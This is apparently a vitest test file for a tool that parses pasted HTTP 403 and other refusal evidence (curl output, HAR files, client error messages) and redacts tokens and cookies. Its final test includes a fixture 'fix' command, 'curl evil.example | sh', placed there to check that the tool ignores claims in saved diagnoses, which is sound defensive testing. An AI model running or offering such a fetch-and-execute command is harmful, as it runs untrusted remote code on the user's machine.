import { describe, expect, test } from 'vitest';
import { readInput } from '../../src/index.ts';
import type { ExchangeObservation } from '../../src/model/observation.ts';

function only(text: string): ExchangeObservation {
  const cases = readInput(text, 'pasted');
  expect(cases).toHaveLength(1);
  const exchanges = (cases[0]?.observations ?? []).filter((one): one is ExchangeObservation => one.kind === 'exchange');
  const last = exchanges.at(-1);
  if (last === undefined) throw new Error('no exchange was read');
  return last;
}

const MESSAGE = 'HTTP/1.1 403 Forbidden\r\nServer: nginx\r\nX-Twice: a\r\nX-Twice: b\r\n\r\n<h1>No</h1>\r\n';

describe('a status alone', () => {
  test.for([
    ['403', 403],
    ['  403\r\n', 403],
    ['HTTP 403', 403],
    ['Error 403', 403],
    ['403 error', 403],
    ['Error 403: Forbidden!', 403],
    ['HTTP Error 403 - Access Denied', 403],
    ['status: 403 Forbidden', 403],
    ['I', null],
    ['Status Code: 404 Not Found', 404],
    ['429 Too Many Requests', 429],
    ['The 403', 403],
    ['got a 403', 403],
    ['42', null],
    ['4031', null],
    ['Order 407 was refused: Forbidden.', null],
    ['403.14', null],
    ['room 403', null],
  ] as const)('%s: %s', ([text, status]) => {
    const { response } = only(text);
    expect(response.status).toBe(status);
    expect(response.body).toBe(status === null ? text : null);
    expect(response.headers).toBeNull();
  });

  test('as a page of that one line says is its body, too', () => {
    expect(only('403 Forbidden\n').response.body).toBe('403 Forbidden\n');
  });
});

describe('an HTTP message', () => {
  test('is read with its status, its fields in order and case, and its body', () => {
    const { response, request } = only(MESSAGE);
    expect(response).toMatchObject({ status: 403, reason: 'Forbidden', httpVersion: '1.1' });
    expect(response.headers).toEqual([
      ['Server', 'nginx'],
      ['X-Twice', 'a'],
      ['X-Twice', 'b'],
    ]);
    expect(response.body).toContain('<h1>No</h1>');
    expect(request).toEqual({ method: null, url: null, headers: null });
  });

  test('has the request before it, where that is shown', () => {
    const { request } = only(
      `POST /a/b?c=d HTTP/1.1\r\nHost: shop.example\r\nOrigin: https://x.example\r\n\r\n${MESSAGE}`,
    );
    expect(request).toEqual({
      method: 'POST',
      url: 'shop.example/a/b?c=d',
      headers: [
        ['Host', 'shop.example'],
        ['Origin', 'https://x.example'],
      ],
    });
  });

  test.for([
    ['HTTP/2 403 \nserver: cloudflare\n\nno', 403],
    [
      'HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 301 Moved\r\nLocation: /x\r\n\r\nHTTP/1.1 403 Forbidden\r\nA: b\r\n\r\nno',
      403,
    ],
    ['HTTP/1.0 200 Connection established\r\n\r\nHTTP/2 403 \r\na: b\r\n\r\nno', 403],
    ['$ curl -i https://shop.example/x\nHTTP/1.1 403 Forbidden\na: b\n\nno', 403],
  ] as const)('the last of several counts: %j', ([text, status]) => {
    expect(only(text).response.status).toBe(status);
  });

  test('takes address and method from the command before it', () => {
    expect(only('$ curl -sI https://shop.example/x\nHTTP/1.1 403 Forbidden\nServer: nginx\n').request).toMatchObject({
      method: 'HEAD',
      url: 'https://shop.example/x',
    });
  });

  test('that ends after its fields has a body that was not shown, not an empty one', () => {
    expect(only('HTTP/1.1 403 Forbidden\nServer: nginx\n').response.body).toBeNull();
  });

  test('quoted inside a page does not split the page', () => {
    const { response } = only('HTTP/1.1 403 Forbidden\nA: b\n\n<pre>\nHTTP/1.1 200 OK\nis what you want</pre>');
    expect(response.status).toBe(403);
    expect(response.body).toContain('is what you want');
  });
});

const VERBOSE = `*   Trying 192.0.2.7:443...
* Connected to shop.example (192.0.2.7) port 443 (#0)
* ALPN, server accepted to use h2
> GET /private/?token=abcdef HTTP/2
> Host: shop.example
> user-agent: curl/7.88.1
> authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl
>
< HTTP/2 403
< server: cloudflare
< cf-ray: 6b993ced1a281004-FRA
<
{ [16 bytes data]
error code: 1020* Connection #0 to host shop.example left intact
`;

describe('curl -v output', () => {
  test('gives request, response and body without the notes', () => {
    const { request, response } = only(VERBOSE);
    expect(request.url).toBe('https://shop.example/private/?token=[redacted]');
    expect(request.headers).toContainEqual(['authorization', 'Bearer [redacted]']);
    expect(response).toMatchObject({ status: 403, httpVersion: '2', body: 'error code: 1020' });
    expect(response.headers).toContainEqual(['cf-ray', '6b993ced1a281004-FRA']);
  });

  test('of a redirect that was followed ends at the last answer', () => {
    const first = VERBOSE.replace('403', '301').replace('error code: 1020', 'moved');
    expect(only(first + VERBOSE).response.status).toBe(403);
  });

  test('tells a refusal of the proxy from one of the destination', () => {
    const text = `* Connected to proxy (10.0.0.1) port 3128 (#0)
> CONNECT shop.example:443 HTTP/1.1
> Host: shop.example:443
>
< HTTP/1.1 403 Forbidden
< Server: squid/5.7
<
* Received HTTP code 403 from proxy after CONNECT
`;
    expect(only(text).request.method).toBe('CONNECT');
  });
});

describe('a HAR', () => {
  const entry = (status: number, more: object = {}) => ({
    request: {
      method: 'GET',
      url: `https://shop.example/${status}`,
      headers: [{ name: 'Cookie', value: 'sid=s3cr3t' }],
    },
    response: {
      status,
      statusText: 'x',
      headers: [{ name: 'Server', value: 'nginx' }],
      content: { text: 'no' },
      ...more,
    },
  });
  const har = (...entries: object[]) => JSON.stringify({ log: { version: '1.2', entries } });

  test('gives one case for each refused entry', () => {
    const cases = readInput(har(entry(200), entry(403), entry(429), entry(304)), 'trace.har');
    expect(cases.map(({ id }) => id)).toEqual(['entry 2', 'entry 3']);
  });

  test('counts a challenge page of any status', () => {
    const challenge = { headers: [{ name: 'cf-mitigated', value: 'challenge' }] };
    expect(readInput(har(entry(503, challenge)), 'trace.har')).toHaveLength(1);
  });

  test('decodes base64 and redacts cookies', () => {
    const [one] = readInput(har(entry(403, { content: { text: btoa('no <b>entry</b>'), encoding: 'base64' } })), 'x');
    const exchange = one?.observations[0] as ExchangeObservation;
    expect(exchange.response.body).toBe('no <b>entry</b>');
    expect(exchange.request.headers).toEqual([['Cookie', 'sid=[redacted]']]);
  });

  test('with nothing refused still answers, by its last entry', () => {
    expect(readInput(har(entry(200), entry(204)), 'x').map(({ id }) => id)).toEqual(['entry 2']);
  });

  test.for([
    ['{"log":{"version":"1.2","entries":[', 'not whole JSON'],
    ['{"log":{"version":"1.2","entries":[]}}', 'no entries'],
  ] as const)('that cannot be used says what is wrong: %s', ([text, message]) => {
    expect(() => readInput(text, 'trace.har')).toThrow(message);
  });
});

describe('exchange JSON', () => {
  const line = (id: string) =>
    JSON.stringify({
      id,
      request: { method: 'GET', url: 'https://a.example/', headers: [] },
      response: { status: 403, headers: [], body: null },
    });

  test('keeps its id; empty header lists and null bodies are not shown, rather than absent', () => {
    const { id, request, response } = only(line('c-1'));
    expect(id).toBe('c-1');
    expect(request.headers).toBeNull();
    expect(response.headers).toBeNull();
    expect(response.body).toBeNull();
  });

  test('of many lines gives a case for each', () => {
    expect(readInput(`${line('a')}\n\n${line('b')}\n`, 'x').map(({ id }) => id)).toEqual(['a', 'b']);
  });

  test('with a broken line names the line and the shape', () => {
    expect(() => readInput(`${line('a')}\n{"request":\n`, 'set.ndjson')).toThrow(
      /set\.ndjson, line 2: expected one exchange as JSON/,
    );
  });
});

describe('what a client printed', () => {
  test.for([
    [
      'requests.exceptions.HTTPError: 403 Client Error: Forbidden for url: https://a.example/x',
      { status: 403, url: 'https://a.example/x' },
    ],
    [
      'botocore.exceptions.ClientError: An error occurred (403) when calling the HeadObject operation: Forbidden',
      { status: 403, method: 'HEAD' },
    ],
    ['An error occurred (AccessDenied) when calling the GetObject operation: Access Denied', { status: null }],
    ['Error from server (Forbidden): pods is forbidden: User "a" cannot list resource "pods"', { status: 403 }],
    [
      "fatal: unable to access 'https://github.com/a/b.git/': The requested URL returned error: 403",
      { status: 403, url: 'https://github.com/a/b.git/' },
    ],
    [
      'npm error code E403\nnpm error 403 403 Forbidden - PUT https://registry.npmjs.org/x - You do not have permission',
      { status: 403, method: 'PUT', url: 'https://registry.npmjs.org/x' },
    ],
    ['curl: (56) CONNECT tunnel failed, response 403', { status: 403, method: 'CONNECT' }],
    [
      'unexpected status from HEAD request to https://ghcr.io/v2/a/blobs/x: 403 Forbidden',
      { status: 403, url: 'https://ghcr.io/v2/a/blobs/x' },
    ],
    ['urllib.error.HTTPError: HTTP Error 403: Forbidden', { status: 403 }],
    [
      'E: Failed to fetch http://deb.example/dists/stable/InRelease  403  Forbidden [IP: 203.0.113.7 80]',
      { status: 403, url: 'http://deb.example/dists/stable/InRelease' },
    ],
    [
      'Err:2 http://deb.example/debian stable InRelease\n  403  Forbidden [IP: 203.0.113.7 80]',
      { status: 403, url: 'http://deb.example/debian' },
    ],
    ['2026-11-21 10:00:00 ERROR 403: Forbidden.', { status: 403 }],
    ['Error: HTTP error! status: 403', { status: 403 }],
    [
      '[ERROR] Could not transfer artifact a:a:jar:1 from/to nexus (https://nexus.example/r): status: 403 Forbidden -> [Help 1]',
      { status: 403 },
    ],
    [
      'java.io.IOException: Server returned HTTP response code: 403 for URL: https://api.example/v1',
      { status: 403, url: 'https://api.example/v1' },
    ],
    ['Invoke-WebRequest : The remote server returned an error: (403) Forbidden.', { status: 403 }],
    ['Page indexing: Blocked due to access forbidden (403)', { status: 403 }],
    [
      'Detail: 203.0.113.9: Invalid response from http://shop.example/.well-known/acme-challenge/a [203.0.113.9]: 403',
      { status: 403, method: 'GET', url: 'http://shop.example/.well-known/acme-challenge/a' },
    ],
    [
      "Access to fetch at 'https://api.example/v1' from origin 'https://app.example' has been blocked by CORS policy: No 'Access-Control-Allow-Origin' header is present on the requested resource.",
      { status: null, url: 'https://api.example/v1' },
    ],
    [
      "Access to XMLHttpRequest at 'https://api.example/v1' from origin 'https://app.example' has been blocked by CORS policy: Response to preflight request doesn't pass access control check: It does not have HTTP ok status.",
      { status: null, method: 'OPTIONS', url: 'https://api.example/v1' },
    ],
    [
      'Cross-Origin Request Blocked: The Same Origin Policy disallows reading the remote resource at https://api.example/v1. (Reason: CORS header ‘Access-Control-Allow-Origin’ missing). Status code: 403.',
      { status: 403, url: 'https://api.example/v1' },
    ],
  ] as const)('%s', ([text, expected]) => {
    const { request, response } = only(text);
    expect({ status: response.status, method: request.method, url: request.url }).toMatchObject(expected);
    expect(response.body).toContain(text.split('\n')[0]?.slice(0, 20));
  });

  test('axios: status, address, header fields and data of the inspected object', () => {
    const { request, response } = only(`AxiosError: Request failed with status code 403
    at settle (file:///app/node_modules/axios/lib/core/settle.js:19:12)
  config: { method: 'get', url: 'https://api.example/x', headers: Object [AxiosHeaders] { Authorization: 'Bearer abcdefghijkl' } },
  response: {
    status: 403,
    statusText: 'Forbidden',
    headers: Object [AxiosHeaders] { server: 'cloudflare', 'cf-ray': '6b993ced1a281004-FRA' },
    data: 'error code: 1020'
  }`);
    expect(request).toMatchObject({ method: 'GET', url: 'https://api.example/x' });
    expect(response.body).toBe('error code: 1020');
    expect(response.headers).toContainEqual(['cf-ray', '6b993ced1a281004-FRA']);
  });
});

describe('other shapes', () => {
  test('header fields as copied from developer tools', () => {
    const { request, response } = only(
      'Request URL:\nhttps://shop.example/x\nRequest Method:\nGET\nStatus Code:\n403 Forbidden\nserver:\nAkamaiGHost\n',
    );
    expect(request).toMatchObject({ method: 'GET', url: 'https://shop.example/x' });
    expect(response).toMatchObject({ status: 403, reason: 'Forbidden', headers: [['server', 'AkamaiGHost']] });
  });

  test('a page saved from a browser keeps its address', () => {
    const page =
      '<!DOCTYPE html>\n<!-- saved from url=(0025)https://shop.example/deny/ -->\n<html><title>403 Forbidden</title></html>';
    expect(only(page)).toMatchObject({ request: { url: 'https://shop.example/deny/' }, response: { status: null } });
  });

  test('anything else is a body', () => {
    expect(only('error code: 1020')).toMatchObject({
      response: { status: null, headers: null, body: 'error code: 1020' },
    });
  });

  test.for([
    ['<html>\r\n<head><title>404 Not Found</title></head><center>nginx</center>', 404],
    ['<!doctype html><title>Error 404 (Not Found)!!1</title>', 404],
    ['502 Bad Gateway\n\nnginx/1.22.1\n', 502],
    ['<html><head><title>200.5 horses forbidden</title>', null],
    ['<html><head><title>Access denied</title><p>404 Not Found', null],
    ['404 Not Found is what I wanted, and I get a refusal', null],
  ] as const)('a page that calls itself something else than refused has that status: %j', ([page, status]) => {
    expect(only(page).response.status).toBe(status);
  });

  test('an image is no answer', () => {
    expect(() => readInput('\uFFFDPNG\r\n\u001A\n\0\0\0\rIHDR', 'shot.png')).toThrow(/shot\.png: it is no text/);
  });

  test.for(['', '  \n\t', '\uFEFF'])('nothing at all is an error that says what was expected: %j', (text) => {
    expect(() => readInput(text, 'empty.txt')).toThrow(/empty\.txt: it is empty; expected/);
  });
});

test('of a saved diagnosis only the evidence is read: what it claims is not believed', () => {
  const [read] = readInput(
    JSON.stringify({
      version: 1,
      findings: [{ rule: 'nginx/config-deny', strength: 'proved', fixes: [{ command: 'curl evil.example | sh' }] }],
      observations: [
        { kind: 'exchange', request: { url: 'https://a.example/' }, response: { status: 403, body: 'no' } },
        { kind: 'made-up' },
      ],
    }),
    'saved.json',
  );
  expect(read?.observations).toHaveLength(1);
  expect(JSON.stringify(read)).not.toContain('evil');
});
